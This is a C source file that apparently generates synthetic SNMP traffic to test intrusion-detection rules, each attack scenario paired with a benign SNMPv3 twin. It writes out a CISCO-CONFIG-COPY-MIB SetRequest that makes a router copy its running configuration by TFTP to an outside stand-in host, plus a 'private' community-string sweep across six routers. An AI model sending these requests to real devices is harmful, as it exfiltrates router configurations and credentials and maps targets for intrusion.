/* seawall-gen: SNMP operation scenarios: a SetRequest to a router (ST-SNMP-002), one community
 * string swept across more than five routers (ST-SNMP-003) and SNMPv2c in use at all
 * (ST-SNMP-004). Twins use SNMPv3 from the NMS, which none of the three covers.
 *
 * v1/v2c messages follow RFC 1157/1901, v3 messages RFC 3412 section 6 with the USM security
 * parameters of RFC 3414 section 2.4 (authNoPriv, so the scoped PDU travels in clear and a sensor
 * can read its type); PDUs are RFC 3416, all in BER (X.690). The HMAC over a v3 message depends on
 * a key the sensor never has: seeded random bytes stand in for it. */
#include "bytes.h"
#include "plan.h"
#include "scenario.h"

#include <libnet.h>
#include <stdlib.h>
#include <string.h>

#define SNMP_PORT 161 /* RFC 3417 section 3 */

#define BER_INTEGER      0x02
#define BER_OCTET_STRING 0x04
#define BER_NULL         0x05
#define BER_OID          0x06
#define BER_SEQUENCE     0x30
#define BER_IPADDRESS    0x40 /* RFC 2578 section 7.1.5: [APPLICATION 0] */
#define PDU_GET          0xa0
#define PDU_RESPONSE     0xa2
#define PDU_SET          0xa3

#define SNMP_V2C             1
#define SNMP_V3              3
#define V3_FLAGS_AUTH_REPORT 0x05 /* RFC 3412 6.4: authFlag | reportableFlag, no privFlag */
#define V3_MODEL_USM         3
#define V3_MAX_SIZE          65507
#define V3_HMAC_LEN          12 /* RFC 3414 section 7: HMAC-SHA-96 (also 6.3 HMAC-MD5-96) */

/* Routers of these scenarios: in infra (10.10.0.0/24), beside the plan's named ones. */
#define SNMP_OPS_ROUTER    "10.10.0.14"
#define SNMP_SWEEP_SOURCE  "10.99.1.6" /* internal, in no set: not the NMS */
#define SNMP_SWEEP_FIRST   20          /* sweep targets 10.10.0.20 .. 10.10.0.25 */
#define SNMP_SWEEP_DEVICES 6           /* one more than ST-SNMP-003's default of 5 */
#define SNMP_SWEEP_PREFIX  "10.10.0."
#define SNMP_OIDS_MAX      8
#define SNMP_VALUE_MAX     64
#define SNMP_OID_BYTES_MAX 32

typedef struct snmp_varbind {
    const char *oid; /* dotted */
    uint8_t tag;     /* value tag; BER_NULL in requests */
    const uint8_t *value;
    size_t len;
} snmp_varbind;

typedef struct snmp_msg {
    uint8_t version; /* SNMP_V2C or SNMP_V3 */
    const char *community;
    const char *v3_user;
    uint8_t pdu_type;
    uint32_t request_id;
    const snmp_varbind *vb;
    size_t n_vb;
} snmp_msg;

/* Encloses inner's bytes in a tag; an overflow anywhere inside carries outward. */
static void ber_wrap(gen_buf *out, uint8_t tag, const gen_buf *inner)
{
    if (inner->overflow)
        out->overflow = 1;
    else
        gen_ber_tlv(out, tag, inner->data, inner->len);
}

/* X.690 8.19: the first two arcs pack into 40 * a + b, each arc base 128, high bit = more. */
static size_t oid_encode(const char *dotted, uint8_t *out, size_t cap)
{
    uint32_t arcs[24];
    size_t n = 0, len = 0;
    for (const char *p = dotted; *p && n < 24; n++) {
        arcs[n] = (uint32_t)strtoul(p, (char **)&p, 10);
        if (*p == '.')
            p++;
    }
    if (n < 2)
        return 0;
    arcs[1] += 40 * arcs[0];
    for (size_t i = 1; i < n; i++) {
        uint8_t tmp[5];
        size_t k = 0;
        uint32_t v = arcs[i];
        do {
            tmp[k++] = (uint8_t)(v & 0x7f);
            v >>= 7;
        } while (v);
        while (k > 0 && len < cap) {
            k--;
            out[len++] = (uint8_t)(tmp[k] | (k ? 0x80 : 0));
        }
    }
    return len <= cap ? len : 0;
}

/* PDU{request-id, error-status 0, error-index 0, VarBindList}: RFC 3416 section 3. */
static void snmp_pdu(gen_buf *out, const snmp_msg *m)
{
    uint8_t list[400], pdu[440];
    gen_buf l = gen_buf_init(list, sizeof(list));
    for (size_t i = 0; i < m->n_vb; i++) {
        uint8_t vb[128], oid[SNMP_OID_BYTES_MAX];
        gen_buf v = gen_buf_init(vb, sizeof(vb));
        gen_ber_tlv(&v, BER_OID, oid, oid_encode(m->vb[i].oid, oid, sizeof(oid)));
        gen_ber_tlv(&v, m->vb[i].tag, m->vb[i].value, m->vb[i].len);
        ber_wrap(&l, BER_SEQUENCE, &v);
    }
    gen_buf p = gen_buf_init(pdu, sizeof(pdu));
    gen_ber_int(&p, m->request_id);
    gen_ber_int(&p, 0);
    gen_ber_int(&p, 0);
    ber_wrap(&p, BER_SEQUENCE, &l);
    ber_wrap(out, m->pdu_type, &p);
}

/* msgSecurityParameters: UsmSecurityParameters (RFC 3414 section 2.4) of a Cisco engine id
 * (RFC 3411 SnmpEngineID: enterprise 9 with the high bit, format 3 = MAC address). */
static void usm_params(gen_ctx *g, gen_buf *out, const uint8_t engine_id[11], const char *user)
{
    uint8_t usm[128], seq[140], hmac[V3_HMAC_LEN];
    gen_rng_fill(&g->rng, hmac, sizeof(hmac));
    gen_buf u = gen_buf_init(usm, sizeof(usm));
    gen_ber_tlv(&u, BER_OCTET_STRING, engine_id, 11);
    gen_ber_int(&u, 7); /* msgAuthoritativeEngineBoots */
    gen_ber_int(&u, (uint32_t)(g->now.sec - GEN_EPOCH_SEC + 360000)); /* EngineTime: uptime in s */
    gen_ber_tlv(&u, BER_OCTET_STRING, (const uint8_t *)user, strlen(user));
    gen_ber_tlv(&u, BER_OCTET_STRING, hmac, sizeof(hmac));
    gen_ber_tlv(&u, BER_OCTET_STRING, NULL, 0); /* msgPrivacyParameters: no privacy */
    gen_buf s = gen_buf_init(seq, sizeof(seq));
    ber_wrap(&s, BER_SEQUENCE, &u);
    ber_wrap(out, BER_OCTET_STRING, &s);
}

/* The whole message: v2c (RFC 1901 section 3) or v3 (RFC 3412 section 6). 0 on overflow. */
static size_t snmp_message(gen_ctx *g, const snmp_msg *m, uint8_t *out, size_t cap)
{
    uint8_t body[700], scoped[600], global[32];
    static const uint8_t engine_id[11] = {0x80, 0x00, 0x00, 0x09, 0x03, 0x00,
                                          0x1e, 0x49, 0x2a, 0x7c, 0x01};
    gen_buf b = gen_buf_init(body, sizeof(body));
    gen_ber_int(&b, m->version);
    if (m->version == SNMP_V3) {
        gen_buf gl = gen_buf_init(global, sizeof(global));
        gen_ber_int(&gl, m->request_id ^ 0x5a5a); /* msgID */
        gen_ber_int(&gl, V3_MAX_SIZE);
        gen_ber_tlv(&gl, BER_OCTET_STRING, (const uint8_t[]){V3_FLAGS_AUTH_REPORT}, 1);
        gen_ber_int(&gl, V3_MODEL_USM);
        ber_wrap(&b, BER_SEQUENCE, &gl);
        usm_params(g, &b, engine_id, m->v3_user);
        gen_buf sc = gen_buf_init(scoped, sizeof(scoped));
        gen_ber_tlv(&sc, BER_OCTET_STRING, engine_id, sizeof(engine_id)); /* contextEngineID */
        gen_ber_tlv(&sc, BER_OCTET_STRING, NULL, 0);                      /* contextName */
        snmp_pdu(&sc, m);
        ber_wrap(&b, BER_SEQUENCE, &sc);
    } else {
        gen_ber_tlv(&b, BER_OCTET_STRING, (const uint8_t *)m->community, strlen(m->community));
        snmp_pdu(&b, m);
    }
    gen_buf o = gen_buf_init(out, cap);
    ber_wrap(&o, BER_SEQUENCE, &b);
    return o.overflow ? 0 : o.len;
}

static int snmp_send(gen_ctx *g, gen_flow *f, int dir, const snmp_msg *m)
{
    uint8_t pkt[800];
    size_t n = snmp_message(g, m, pkt, sizeof(pkt));
    if (n == 0) {
        strcpy(g->err, "SNMP message does not fit its buffer");
        return -1;
    }
    return craft_udp(g, f, dir, pkt, n);
}

/* One request from manager to agent and, when `answer` is given, the agent's Response-PDU
 * (RFC 3416 section 4.2.1: same request-id) carrying those varbinds. 1 or 2 frames. */
static int snmp_request_answered(gen_ctx *g, const char *manager, const char *agent,
                                 const snmp_msg *m, const snmp_varbind *answer)
{
    gen_flow f;
    if (gen_flow_init(g, &f, IPPROTO_UDP, manager, agent, SNMP_PORT) < 0)
        return -1;
    snmp_msg copy = *m;
    copy.request_id = gen_rng_u32(&g->rng) & 0x7fffffff; /* Integer32 >= 0 */
    if (snmp_send(g, &f, GEN_TO_SERVER, &copy) < 0 || !answer)
        return answer ? -1 : 0;
    copy.pdu_type = PDU_RESPONSE;
    copy.vb = answer;
    return snmp_send(g, &f, GEN_TO_CLIENT, &copy);
}

static int snmp_request(gen_ctx *g, const char *manager, const char *agent, const snmp_msg *m)
{
    return snmp_request_answered(g, manager, agent, m, NULL);
}

static const snmp_varbind get_sysdescr[] = {{"1.3.6.1.2.1.1.1.0", BER_NULL, NULL, 0}};
static const char sysdescr[] = "Cisco IOS XR Software, Version 7.9.2";
static const snmp_varbind sysdescr_value[] = {
    {"1.3.6.1.2.1.1.1.0", BER_OCTET_STRING, (const uint8_t *)sysdescr, sizeof(sysdescr) - 1}};

/* The twin of ST-SNMP-001 (scn-snmp.c): the NMS polls router 10.10.0.4 and is answered. SNMPv3,
 * because a v2c poll is itself ST-SNMP-004 (v1/v2c posture) since that detection landed. */
int scn_snmp001_benign_v3(gen_ctx *g)
{
    const snmp_msg m = {SNMP_V3, "", "nmsops", PDU_GET, 0, get_sysdescr, 1};
    return snmp_request_answered(g, PLAN_NMS_HOST, PLAN_ROUTER_SNMP, &m, sysdescr_value);
}

/* CISCO-CONFIG-COPY-MIB ccCopyEntry row 417 (1.3.6.1.4.1.9.9.96.1.1.1.1.<column>.417): copy the
 * running config (SourceFileType 4) by TFTP (Protocol 1) to a network file (DestFileType 1) on
 * 203.0.113.69, row created with createAndGo (RowStatus 4) - the classic SNMP config theft. */
#define CC_COPY "1.3.6.1.4.1.9.9.96.1.1.1.1."
static const uint8_t one[] = {1}, four[] = {4}, tftp_server[] = {203, 0, 113, 69};
static const snmp_varbind set_config_copy[] = {
    {CC_COPY "2.417", BER_INTEGER, one, 1},
    {CC_COPY "3.417", BER_INTEGER, four, 1},
    {CC_COPY "4.417", BER_INTEGER, one, 1},
    {CC_COPY "5.417", BER_IPADDRESS, tftp_server, 4},
    {CC_COPY "6.417", BER_OCTET_STRING, (const uint8_t *)"edge14-confg", 12},
    {CC_COPY "14.417", BER_INTEGER, four, 1},
};

int scn_snmp002_set_config_copy(gen_ctx *g)
{
    const snmp_msg m = {SNMP_V3, "", "nmsops", PDU_SET, 0, set_config_copy, 6};
    return snmp_request(g, PLAN_NMS_HOST, SNMP_OPS_ROUTER, &m);
}

/* Also the twin of ST-SNMP-004: v3 from the NMS is neither a SET nor v1/v2c. */
int scn_snmp_v3_get_benign(gen_ctx *g)
{
    const snmp_msg m = {SNMP_V3, "", "nmsops", PDU_GET, 0, get_sysdescr, 1};
    return snmp_request(g, PLAN_NMS_HOST, SNMP_OPS_ROUTER, &m);
}

/* The same GET to 10.10.0.20 .. 10.10.0.25 from manager. 6 frames. */
static int snmp_sweep(gen_ctx *g, const char *manager, const snmp_msg *m)
{
    for (int i = 0; i < SNMP_SWEEP_DEVICES; i++) {
        char agent[32];
        snprintf(agent, sizeof(agent), SNMP_SWEEP_PREFIX "%d", SNMP_SWEEP_FIRST + i);
        if (snmp_request(g, manager, agent, m) < 0)
            return -1;
    }
    return 0;
}

int scn_snmp003_community_sweep(gen_ctx *g)
{
    const snmp_msg m = {SNMP_V2C, "private", "", PDU_GET, 0, get_sysdescr, 1};
    return snmp_sweep(g, SNMP_SWEEP_SOURCE, &m);
}

int scn_snmp003_benign(gen_ctx *g)
{
    const snmp_msg m = {SNMP_V3, "", "nmsops", PDU_GET, 0, get_sysdescr, 1};
    return snmp_sweep(g, PLAN_NMS_HOST, &m);
}

int scn_snmp004_v2c_from_nms(gen_ctx *g)
{
    const snmp_msg m = {SNMP_V2C, "n0c-r3ad", "", PDU_GET, 0, get_sysdescr, 1};
    return snmp_request(g, PLAN_NMS_HOST, SNMP_OPS_ROUTER, &m);
}
